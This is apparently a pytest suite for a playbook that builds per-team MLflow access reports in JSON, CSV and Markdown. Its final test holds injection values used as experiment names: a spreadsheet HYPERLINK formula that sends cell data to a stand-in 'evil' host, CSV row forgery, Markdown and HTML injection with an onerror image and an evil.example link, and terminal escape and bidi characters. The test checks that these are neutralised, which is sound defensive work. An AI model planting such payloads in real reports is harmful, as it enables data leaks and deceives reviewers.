"""What mlops.mlflow.report_access tells is what people can do."""

from __future__ import annotations

import csv
import http.server
import json
from pathlib import Path
from typing import Any

import loopback
import pytest
from playbooks.stage import ODD, TEAMS, Stage, mode

NOTHING = "NO_PERMISSIONS"
# Made by who is offboarded, where that ran before.
OF_ANOTHER_STORY = "notes"


@pytest.fixture(scope="module")
def reports(untouched: Stage, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return where the reports of both teams stand, without ending."""
    target = tmp_path_factory.mktemp("reports") / "new"
    run = untouched.play("report_access", "-vvv", "--diff", mlflow_access_report_dir=str(target))
    assert run.code == 0, run.output
    assert untouched.shown(run.output) == []
    return target / "mlflow1"


@pytest.fixture(scope="module")
def told(reports: Path) -> dict[str, Any]:
    """Return the report as data."""
    return json.loads(reports.with_suffix(".json").read_text())


def lines(told: dict[str, Any]) -> list[tuple[str, ...]]:
    """Return the report as a table of team, user, kind, name, level and reasons."""
    return [
        (team, entry["user"], kind, entry[kind], entry["permission"], "; ".join(entry["reasons"]))
        for team in TEAMS
        for entry in told[team]["effective"]
        for kind in ("experiment", "registered_model")
        if kind in entry
    ]


@pytest.mark.parametrize(
    "line",
    [
        ("alice", "experiment", "resnet", "MANAGE", "MANAGE: granted"),
        ("bob", "experiment", "resnet", "EDIT", "EDIT: granted"),
        ("bob", "registered_model", "detector", "READ", "READ: granted"),
        ("carol", "experiment", "resnet", "READ", "READ: group annotators on all"),
        ("dora", "experiment", "resnet", "MANAGE", "MANAGE: admin"),
        ("erin", "experiment", "resnet", NOTHING, f"{NOTHING}: default permission"),
        ("frank", "experiment", "scratch", "MANAGE", "MANAGE: created it"),
        ("gina", "experiment", "segmentation", "DENY", "DENY: granted; READ: group annotators on all"),
    ],
)
def test_each_kind_of_reason_is_told(told: dict[str, Any], line: tuple[str, ...]) -> None:
    assert ("vision", *line) in lines(told)


def test_nobody_and_nothing_is_left_out(told: dict[str, Any], running: Stage) -> None:
    for team, found in told.items():
        assert found["default_permission"] == NOTHING
        assert {entry["user"] for entry in found["effective"]} == set(running.users(team))
    things = {(team, name) for team, _user, _kind, name, *_rest in lines(told)}
    vision = {"Default", "resnet", "segmentation", ODD, "scratch", "detector"}
    assert things >= {("nlp", "Default"), ("nlp", "tokens")}
    assert {name for team, name in things if team == "vision"} == vision


@pytest.mark.parametrize("team", ["vision", "nlp"])
def test_people_can_do_what_is_told(told: dict[str, Any], running: Stage, team: str) -> None:
    reported = {f"{user} {kind} {name}": level for where, user, kind, name, level, _why in lines(told) if where == team}
    words = {NOTHING: "none", "DENY": "none"}
    expected = {
        what: "EDIT" if level == "MANAGE" and " registered_model " in what else words.get(level, level)
        for what, level in reported.items()
    }
    assert running.client(team, "levels") == expected


def test_the_table_says_the_same(reports: Path, told: dict[str, Any]) -> None:
    with reports.with_suffix(".csv").open(newline="") as file:
        head, *rows = csv.reader(file)
    assert head == ["team", "user", "kind", "name", "permission", "reasons"]
    # Else a spreadsheet would take it for a formula.
    assert rows == [[f"'{cell}" if cell == ODD else cell for cell in line] for line in lines(told)]


def test_the_text_says_what_people_may(reports: Path, told: dict[str, Any]) -> None:
    text = reports.with_suffix(".md").read_text()
    found = [line for line in text.splitlines() if line.startswith("| ")]
    expected = [
        f"| {user} | {kind.replace('_', ' ')} {name} | {level} | {why} |".replace(ODD, ODD.replace("|", "\\|"))
        for _team, user, kind, name, level, why in lines(told)
        if level != NOTHING
    ]
    undeclared = "| experiment scratch | frank | grant | "
    heads = ("| user |", "| what |", undeclared, f"| experiment {OF_ANOTHER_STORY} | ")
    assert [line for line in found if not line.startswith(heads)] == expected
    assert [line for line in found if line.startswith(undeclared)]
    assert [line for line in text.splitlines() if line.startswith("#")] == [
        "# Who can do what on mlflow1",
        "## vision",
        "## nlp",
    ]


def test_what_nobody_declared_is_told_with_who_made_it(reports: Path, told: dict[str, Any]) -> None:
    found = {team: told[team]["undeclared"] for team in TEAMS}
    assert [{**each, "created_at": ""} for each in found["vision"]] == [
        {"experiment": "scratch", "created_by": "frank", "according_to": "grant", "created_at": ""}
    ]
    assert [each for each in found["nlp"] if each["experiment"] != OF_ANOTHER_STORY] == []
    made = found["vision"][0]["created_at"]
    with reports.with_suffix(".undeclared.csv").open(newline="") as file:
        assert [row for row in csv.reader(file) if row[2] != OF_ANOTHER_STORY] == [
            ["team", "kind", "name", "created_by", "according_to", "created_at"],
            ["vision", "experiment", "scratch", "frank", "grant", made],
        ]


def test_only_who_ran_it_can_read_the_report(reports: Path) -> None:
    assert mode(reports.parent) == "0o750"
    kinds = (".json", ".csv", ".undeclared.csv", ".md")
    assert {mode(reports.with_suffix(kind)) for kind in kinds} == {"0o640"}


def test_a_second_report_changes_nothing(reports: Path, running: Stage) -> None:
    first, second = (running.play("report_access", mlflow_access_report_dir=str(reports.parent)) for _try in range(2))
    assert (first.code, second.code, second.changed) == (0, 0, 0), second.output


class Nobody(http.server.BaseHTTPRequestHandler):
    """Answers, and is no MLflow."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"<h1>Welcome</h1>")

    def log_message(self, *_: Any) -> None:
        """Say nothing."""


def test_a_team_whose_server_is_no_mlflow_keeps_no_other_from_its_report(running: Stage, tmp_path: Path) -> None:
    with loopback.listening(http.server.HTTPServer(("127.0.0.1", 0), Nobody)) as server:
        teams = json.loads(running.inventory.read_text())["all"]["children"]["mlflow_servers"]["hosts"]["mlflow1"]
        odd = {"name": "audio", "port": server.server_port, "admin_password": "a word that nobody says"}
        inventory = running.declare("odd.json", {"mlflow_teams": [odd, *teams["mlflow_teams"]]})
        run = running.play("report_access", inventory=inventory, mlflow_access_report_dir=str(tmp_path))
    assert run.code != 0
    why = f"http://127.0.0.1:{server.server_port} does not tell a version of MLflow; is it an MLflow server?"
    assert f"audio: {why}" in run.output
    assert odd["admin_password"] not in run.output
    told = json.loads((tmp_path / "mlflow1.json").read_text())
    assert told["audio"] is None
    assert set(running.users("vision")) == {entry["user"] for entry in told["vision"]["effective"]}
    text = (tmp_path / "mlflow1.md").read_text()
    assert [line for line in text.splitlines() if line.startswith("## ")] == ["## vision", "## nlp", "## audio"]
    assert "is it an MLflow server?" in text
    for kind in ("csv", "undeclared.csv"):
        with (tmp_path / f"mlflow1.{kind}").open(newline="") as file:
            rows = list(csv.reader(file))
        assert {len(row) for row in rows} == {6}
        assert rows[-1][0] == "audio"
        assert any(cell.startswith("not read") for cell in rows[-1])


def test_a_member_forges_nothing(running: Stage, tmp_path: Path) -> None:
    names = [
        '=HYPERLINK("http://evil/?"&A1;"ok")',
        'x\n"nlp","dave","experiment","sentiment","NO_PERMISSIONS",""',
        "x\n\n## All reviewed, nothing to do\n<img src=x onerror=y> [here](http://evil.example)",
        "\t=1+1",
        " \uff1d1+1",
        "a|b \\| c",
        "\x1b[1A\x1b[2K\u202e",
    ]
    running.client("vision", "create", "erin", *names)
    try:
        run = running.play("report_access", "-v", "--diff", mlflow_access_report_dir=str(tmp_path))
        assert run.code == 0, run.output
        assert "\x1b[2K" not in run.output
    finally:
        running.client("vision", "delete", *names)
    with (tmp_path / "mlflow1.csv").open(newline="") as file:
        rows = list(csv.reader(file))
    told = json.loads((tmp_path / "mlflow1.json").read_text())
    assert set(names) <= {entry.get("experiment") for entry in told["vision"]["effective"]}
    with (tmp_path / "mlflow1.undeclared.csv").open(newline="") as file:
        undeclared = list(csv.reader(file))
    assert len(undeclared) == 1 + sum(len(found["undeclared"]) for found in told.values())
    assert {entry.get("experiment") for entry in told["vision"]["undeclared"]} == {"scratch", *names}
    assert {len(row) for row in rows + undeclared} == {6}
    assert len(rows) == 1 + sum(len(found["effective"]) for found in told.values())
    assert not [cell for row in rows + undeclared for cell in row if cell.strip(' "')[:1] in tuple("=+-@\uff1d")]
    for suffix in (".undeclared.csv", ".csv", ".md"):
        text = (tmp_path / f"mlflow1{suffix}").read_text()
        assert all(line.isprintable() for line in text.split("\n"))
    assert [line for line in text.splitlines() if line.startswith("#")] == [
        "# Who can do what on mlflow1",
        "## vision",
        "## nlp",
    ]
    assert "<img" not in text
    assert "://evil" not in text
    cells = [
        line.replace("\\\\", "").replace("\\|", "").count("|") for line in text.splitlines() if line.startswith("|")
    ]
    assert set(cells) == {5}
